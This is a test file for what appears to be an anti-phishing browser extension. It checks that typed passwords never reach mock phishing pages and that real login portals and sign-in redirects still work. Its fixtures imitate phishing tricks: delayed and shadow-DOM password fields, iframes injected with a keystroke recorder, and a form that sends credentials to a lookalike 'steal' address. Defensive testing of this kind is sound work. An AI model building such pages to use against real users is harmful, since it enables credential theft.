// The guard: nothing typed, pasted or sent reaches a false page; nothing is lost on a good one.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { narrow } from "../lib/accessibility.mjs";
import { BROWSERS, pause, start, until } from "../lib/browser.mjs";
import { article, login } from "../lib/pages.mjs";
import { leaked, RECORDER, serve } from "../lib/server.mjs";

const SECRET = "s3cret-Pa55";
const FORM = '<form><label>User name <input name="user"></label><label>Password <input type="password"></label></form>';

/** Pages that put their form before the person in other ways than plain HTML. */
const PAGES = {
  "late.aetma.com": article(
    "<h1>Welcome</h1><main></main><script>setTimeout(() => { document.querySelector('main').innerHTML = '<input type=password autofocus>'; document.querySelector('input').focus(); }, 1500)</script>",
  ),
  "claims-late.example": article(
    "<h1>MyChart</h1><main></main><script>setTimeout(() => { document.title = 'MyChart'; document.querySelector('main').innerHTML = '<input type=password>'; document.querySelector('input').focus(); }, 1500)</script>",
    "Welcome",
  ),
  "shadow.example": article(
    "<div id=host></div><script>const root = document.getElementById('host').attachShadow({ mode: 'closed' }); root.innerHTML = '<input type=password>'; setTimeout(() => root.querySelector('input').focus(), 800)</script>",
    "MyChart - Login Page",
  ),
  "masked.example": article("<input name=q1 style='-webkit-text-security: disc' autofocus>", "MyChart - Login Page"),
  "text.example": article("<label>Contraseña <input name=q1 autofocus></label>", "MyChart - Login Page"),
  "srcdoc.example": article(
    `<h1>MyChart</h1><iframe width=600 height=300 srcdoc="${`<script>${RECORDER}</script>${FORM}`.replaceAll('"', "&quot;")}"></iframe>`,
    "MyChart - Login Page",
  ),
  "blank.example": article(
    `<h1>MyChart</h1><iframe width=600 height=300></iframe><script>const d = document.querySelector('iframe').contentDocument; const f = d.createElement('div'); f.innerHTML = ${JSON.stringify(FORM)}; d.body.append(f);</script>`,
    "MyChart - Login Page",
  ),
  "framing.example": article(
    '<h1>Our clinic</h1><iframe width=600 height=300 src="https://mychart-login.example/in"></iframe>',
    "Our clinic",
  ),
  "framing-good.example": article(
    '<h1>Our clinic</h1><iframe width=600 height=300 src="https://mychart.org/in"></iframe>',
    "Our clinic",
  ),
  "sends.example": article('<form action="https://rnychart.org/steal"><input type=password></form>', "Welcome"),
  "mychart-login.example": login(),
  "mychart.org": login(),
  "quiet.aetma.com": article("<h1>Welcome</h1><p id=box contenteditable style='border:1px solid;min-height:2em'></p>"),
  "two.example": login({ title: "City Library" }).replace('id="user"', 'id="user" autofocus'),
  "fast.example": login({ autofocus: true, title: "City Library" }),
  "sso.example": article(
    "<form action='https://idp.example/in' method='get'><input type=hidden name=SAMLResponse value=abc><button>Continue</button></form><script>document.forms[0].requestSubmit()</script>",
    "Working...",
  ),
  "idp.example": article("<h1>Signed in</h1>"),
};

for (const name of BROWSERS) {
  describe(name, () => {
    let server;
    let browser;
    before(async () => {
      server = await serve((host) => PAGES[host]);
      browser = await start(name, server);
    });
    after(async () => {
      await browser.close();
      server.close();
    });

    for (const host of [
      "late.aetma.com",
      "claims-late.example",
      "shadow.example",
      "text.example",
      "srcdoc.example",
      "blank.example",
      "sends.example",
    ]) {
      test(`warns before the first key: ${host}`, async () => {
        const page = await browser.open(`https://${host}/`);
        await until(async () => ["panel", "interstitial"].includes(await browser.see(page)));
        await page.keyboard.type(SECRET);
        await pause(300);
        assert.equal(leaked(server.heard(host)), 0);
        await page.close();
      });
    }

    test("a text field that hides what is typed is a password", async () => {
      const page = await browser.openWithPanel("https://masked.example/");
      await page.close();
    });

    test("a false frame on a good page is held, and the whole tab warned", async () => {
      const page = await browser.openWithPanel("https://framing.example/");
      assert.match(await browser.text(page), /mychart-login\.example/);
      await page.mouse.click(300, 160);
      await page.keyboard.type(SECRET);
      await pause(300);
      assert.equal(leaked(server.heard("mychart-login.example")), 0);
      await page.close();
    });

    test("a real portal in a frame of an unknown page works", async () => {
      const page = await browser.open("https://framing-good.example/");
      const frame = await until(() => page.frames().find((frame) => frame.url() === "https://mychart.org/in"));
      await frame.focus("#password");
      await page.keyboard.type(SECRET);
      await until(() => leaked(server.heard("mychart.org")) >= SECRET.length);
      assert.equal(await browser.see(page), "page");
      await page.close();
    });

    test("what is typed while the background wakes is not lost", async () => {
      await (await browser.open("https://idp.example/")).close();
      await browser.stopBackground();
      const page = await browser.browser.newPage();
      const opening = page.goto("https://fast.example/", { timeout: 8000 }).catch(() => undefined);
      await until(() => server.requests.includes("https://fast.example/"));
      // From the first moment on, as a quick typist would.
      await until(() => page.evaluate(() => document.activeElement?.id === "password").catch(() => false));
      await page.keyboard.type(SECRET);
      await opening;
      await until(() => page.$eval("#password", (field, secret) => field.value === secret, SECRET).catch(() => false));
      await page.close();
    });

    test("what is typed in two fields while the background wakes goes to both", async () => {
      await browser.stopBackground();
      const page = await browser.browser.newPage();
      const opening = page.goto("https://two.example/", { timeout: 8000 }).catch(() => undefined);
      await until(() => page.evaluate(() => document.activeElement?.id === "user").catch(() => false));
      await page.keyboard.type("ana");
      await page.keyboard.press("Tab");
      await page.keyboard.type(SECRET);
      await opening;
      const values = () => page.$$eval("input", (fields) => fields.map((field) => field.value).join(" "));
      await until(async () => (await values().catch(() => "")) === `ana ${SECRET}`);
      await page.close();
    });

    test("at a suspicious address, the first use of any field is warned of", async () => {
      const page = await browser.open("https://quiet.aetma.com/");
      assert.equal(await browser.see(page), "page", "a page that asks for nothing shows no panel");
      await page.click("#box");
      await page.keyboard.type(SECRET);
      await until(async () => (await browser.see(page)) === "panel");
      assert.equal(leaked(server.heard("quiet.aetma.com")), 0);
      await page.close();
    });

    test("a warning in a window that turns narrow, and its text large, stays what it is", async () => {
      const page = await browser.openWithPanel("https://masked.example/");
      await page.bringToFront();
      await narrow(page, 320, 480);
      await browser.show(page, { text: 2 });
      // It is watched over, and does not give way to our own page.
      await pause(1000);
      assert.equal(await browser.see(page), "panel");
      await browser.show(page);
      await page.close();
    });

    test("a warning in a tab that nobody looks at stays what it is", async () => {
      const page = await browser.openWithPanel("https://masked.example/");
      const other = await browser.open("https://idp.example/");
      await pause(1200);
      await other.close();
      await page.bringToFront();
      await pause(800);
      await until(async () => (await browser.see(page)) === "panel");
      await page.close();
    });

    test("a page that signs in by itself still does", async () => {
      await browser.stopBackground();
      const page = await browser.open("https://sso.example/");
      await until(() => page.evaluate(() => location.host === "idp.example").catch(() => false));
      await page.close();
    });

    test("on a false page nothing is heard even from a cold start", async () => {
      // Many rounds: Firefox can stop our listener halfway, when our own page comes.
      for (let round = 0; round < 12; round++) {
        server.forget();
        await browser.stopBackground();
        const page = await browser.browser.newPage();
        const opening = page.goto("https://mychart-login.example/", { timeout: 5000 }).catch(() => undefined);
        await page.keyboard.type(SECRET);
        await opening;
        await until(async () => (await browser.see(page)) === "interstitial");
        await page.keyboard.type(SECRET);
        assert.equal(leaked(server.heard("mychart-login.example")), 0);
        await page.close();
      }
    });
  });
}
